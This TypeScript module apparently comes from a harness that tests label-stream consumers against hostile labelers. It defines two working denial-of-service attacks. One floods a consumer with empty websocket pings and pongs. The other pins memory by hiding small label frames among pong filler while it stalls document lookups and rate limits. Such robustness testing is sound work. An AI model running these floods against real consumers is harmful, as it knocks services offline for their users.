import { encode } from '@atcute/cbor';
import type { Kind } from '../attack.ts';
import { webSocketFrame } from '../bytes.ts';
import { floodOfLabels } from '../label-bytes.ts';
import { sendJson } from '../sound.ts';

/** Number of pings in one write. A websocket library may close a connection with many more unsent pongs than this. */
const pingsAtOnce = 50;
/** Number of pongs in one write. The pings and pongs of a write together fill one read of the consumer. */
const pongsAtOnce = 32_000;

/** Sends control frames at full speed. They contain no labels, and a websocket library handles them by itself. */
export const controlFlood: Kind = {
  name: 'control-flood',
  does: 'sends empty pings and pongs at full speed, and reads the responses',
  attack: () => {
    const pings = repeated(webSocketFrame(Buffer.alloc(0), { opcode: 9 }), pingsAtOnce);
    const pongs = repeated(webSocketFrame(Buffer.alloc(0), { opcode: 10 }), pongsAtOnce);
    const write = Buffer.concat([pings, pongs]);
    return { stream: (stream) => stream.flood(() => write) };
  },
};

/** Delay of a labeler's document, in milliseconds; a look-up times out after five seconds. */
const documentMs = 4_500;
/**
 * Time in milliseconds from the first label, whose signature causes the look-up, to the frames that wait for its
 * result.
 */
const waitingMs = 500;
/** Interval between the attacks of two labelers, in milliseconds. */
const apartMs = 250;
/** Number of frames that a consumer may queue. */
const waitingFrames = 250;
/**
 * Number of values in a waiting frame. Each value counts as a received label, so the labeler exceeds its rate limit.
 */
const valuesPerFrame = 1_000;

/**
 * Makes a consumer keep small frames. Each of them shares a read buffer with many control frames, so the whole buffer
 * stays in memory. The frames wait first for the labeler's document, and then for its rate limit.
 */
export const hiddenBytes: Kind = {
  name: 'hidden-bytes',
  does: 'sends small frames between many control frames, and delays their processing by the reader',
  identity: 'web',
  attack: ({ labeler, now }) => {
    const body = encode({ seq: 2 ** 41, labels: Array.from({ length: valuesPerFrame }, () => 0) });
    const small = webSocketFrame(Buffer.concat([header, body]));
    const filler = repeated(
      webSocketFrame(Buffer.alloc(125), { opcode: 10 }),
      Math.floor((65_536 - small.length) / 127),
    );
    const write = Buffer.concat([small, filler]);
    const signature = Uint8Array.from({ length: 64 }, (_, at) => at);
    const about = { src: labeler.did, account: labeler.did, nowMs: now(), signature };
    return {
      document: ({ response }, sound) => void setTimeout(() => sendJson(response, sound), documentMs).unref(),
      stream: (stream) => {
        setTimeout(() => {
          stream.raw(floodOfLabels({ ...about, perFrame: 1, frames: 1 })());
          setTimeout(() => {
            for (let sent = 0; sent < waitingFrames; sent += 1) stream.raw(write);
          }, waitingMs).unref();
        }, labeler.index * apartMs).unref();
      },
    };
  },
};

const header = encode({ op: 1, t: '#labels' });

function repeated(bytes: Buffer, times: number): Buffer {
  return Buffer.concat(Array.from({ length: times }, () => bytes));
}
